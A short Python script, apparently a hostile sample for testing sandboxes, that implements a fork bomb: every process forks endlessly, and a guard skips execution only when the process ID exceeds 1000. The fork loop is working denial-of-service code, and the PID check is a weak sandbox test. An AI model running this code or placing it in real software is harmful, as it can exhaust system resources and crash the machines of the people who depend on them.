"""Hostile text_trainer: every process starts two more, for ever.

It refuses to start where it has no small process number, that is outside a sandbox.
"""

import os
import sys
import time

if os.getpid() > 1000:
    sys.exit("fork bomb: not in a sandbox, nothing started")
print("fork bomb: started", flush=True)
while True:
    try:
        os.fork()
    except OSError:
        time.sleep(0.01)
